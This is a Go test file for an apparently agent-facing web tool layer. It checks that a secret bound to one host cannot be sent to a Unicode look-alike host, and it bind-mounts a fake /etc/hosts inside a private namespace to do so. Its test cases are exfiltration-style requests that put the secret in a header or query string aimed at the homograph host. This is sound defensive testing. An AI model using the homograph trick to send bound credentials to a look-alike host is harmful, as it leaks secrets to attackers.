package web

import (
	"errors"
	"net"
	"net/http"
	"net/http/httptest"
	"os"
	"os/exec"
	"path/filepath"
	"strings"
	"syscall"
	"testing"

	"github.com/tooldispatch/tooldispatch/toolkit/builtin"
)

// idnChild marks the run of TestSecretNeverReachesAnIDNLookalikeHost inside
// its private mount namespace.
const idnChild = "TOOLDISPATCH_TEST_IDN_NAMESPACE"

// TestSecretNeverReachesAnIDNLookalikeHost: api.example.test (A, on
// 127.0.0.1) holds the binding of a secret; apİ.example.test (with U+0130)
// lower-cases to the same letters, but the HTTP client dials it as
// xn--api-bec.example.test (B, on 127.0.0.2), another host. No request that
// references the secret may reach B, whatever the tool. /etc/hosts names
// both hosts inside a private mount namespace, so the test needs root.
func TestSecretNeverReachesAnIDNLookalikeHost(t *testing.T) {
	if os.Getenv(idnChild) == "" {
		if os.Geteuid() != 0 {
			t.Skip("needs root: the test points /etc/hosts at loopback servers inside a private mount namespace")
		}
		cmd := exec.Command(os.Args[0], "-test.run=^TestSecretNeverReachesAnIDNLookalikeHost$", "-test.count=1", "-test.v")
		cmd.Env = append(os.Environ(), idnChild+"=1")
		cmd.SysProcAttr = &syscall.SysProcAttr{Unshareflags: syscall.CLONE_NEWNS}
		out, err := cmd.CombinedOutput()
		switch {
		case errors.Is(err, syscall.EPERM):
			t.Skipf("no private mount namespace here (%v): the test points /etc/hosts at loopback servers inside one", err)
		case strings.Contains(string(out), "--- SKIP: TestSecretNeverReachesAnIDNLookalikeHost"):
			t.Skipf("skipped in its mount namespace:\n%s", out)
		case err != nil:
			t.Fatalf("the test in its mount namespace failed (%v):\n%s", err, out)
		case !strings.Contains(string(out), "--- PASS: TestSecretNeverReachesAnIDNLookalikeHost"):
			t.Fatalf("the test in its mount namespace did not pass:\n%s", out)
		}
		return
	}

	// Two servers on one port, A on 127.0.0.1 and B on 127.0.0.2.
	var la, lb net.Listener
	for range 20 {
		var err error
		if la, err = net.Listen("tcp", "127.0.0.1:0"); err != nil {
			t.Fatal(err)
		}
		_, port, _ := net.SplitHostPort(la.Addr().String())
		if lb, err = net.Listen("tcp", "127.0.0.2:"+port); err == nil {
			break
		}
		la.Close()
		la, lb = nil, nil
	}
	if lb == nil {
		t.Fatal("no port free on both 127.0.0.1 and 127.0.0.2")
	}
	a, b := newRecorderOn(t, la), newRecorderOn(t, lb)
	_, port, _ := net.SplitHostPort(la.Addr().String())

	hosts := filepath.Join(t.TempDir(), "hosts")
	if err := os.WriteFile(hosts, []byte("127.0.0.1 localhost\n127.0.0.1 api.example.test\n127.0.0.2 xn--api-bec.example.test\n"), 0o644); err != nil {
		t.Fatal(err)
	}
	if err := syscall.Mount(hosts, "/etc/hosts", "", syscall.MS_BIND, ""); err != nil {
		t.Skipf("cannot bind-mount /etc/hosts in the private mount namespace: %v", err)
	}

	good := "http://api.example.test:" + port
	evil := "http://ap\u0130.example.test:" + port
	deps := testDeps(newFakeClock())
	deps.Secrets = boundSecrets(t, "T", tokenValue, good)
	ws, err := builtin.OpenWorkspace(t.TempDir())
	if err != nil {
		t.Fatal(err)
	}
	defer ws.Close()
	deps.Workspace = ws
	w := newWeb(t, deps)

	// The names point where they should: the secret reaches A.
	if _, err := call(t, w, HTTPRequestName, "s1", obj{"url": good + "/ok", "headers": obj{"X-Api-Key": "${secret:T}"}}); err != nil {
		t.Fatalf("a GET to the bound origin: %v", err)
	}
	if n := len(a.requests()); n != 1 || !leaked(a.requests()[0], tokenValue) {
		t.Fatalf("A got %d requests, want 1 with the secret", n)
	}
	// A request without secrets goes to the host the name is dialled as.
	if _, err := call(t, w, HTTPRequestName, "s1", obj{"url": evil + "/plain"}); err != nil {
		t.Fatalf("a plain GET to the look-alike: %v", err)
	}
	if n := len(b.requests()); n != 1 {
		t.Fatalf("B got %d requests for the plain GET, want 1", n)
	}

	for _, tc := range []struct {
		name, tool string
		args       obj
	}{
		{"http_request header", HTTPRequestName, obj{"url": evil + "/x", "headers": obj{"X-Api-Key": "${secret:T}"}}},
		{"http_request query", HTTPRequestName, obj{"url": evil + "/x?k=${secret:T}"}},
		{"http_request trailing dot", HTTPRequestName, obj{"url": "http://ap\u0130.example.test.:" + port + "/x", "headers": obj{"X-Api-Key": "${secret:T}"}}},
		{"download_file header", DownloadFileName, obj{"url": evil + "/x", "path": "f.txt", "headers": obj{"X-Api-Key": "${secret:T}"}}},
	} {
		_, err := call(t, w, tc.tool, "s1", tc.args)
		if err == nil {
			t.Errorf("%s: a request with the secret to %s succeeded", tc.name, evil)
		}
	}
	got := 0
	for _, req := range b.requests() {
		if leaked(req, tokenValue) {
			got++
		}
	}
	if got != 0 {
		t.Errorf("B (xn--api-bec.example.test) got the secret bound to api.example.test %d times", got)
	}
}

// newRecorderOn is newRecorder on a listener of the test's choosing.
func newRecorderOn(t *testing.T, l net.Listener) *recorder {
	t.Helper()
	r := &recorder{}
	r.Server = &httptest.Server{Listener: l, Config: &http.Server{Handler: http.HandlerFunc(r.record)}}
	r.Start()
	t.Cleanup(r.Close)
	return r
}
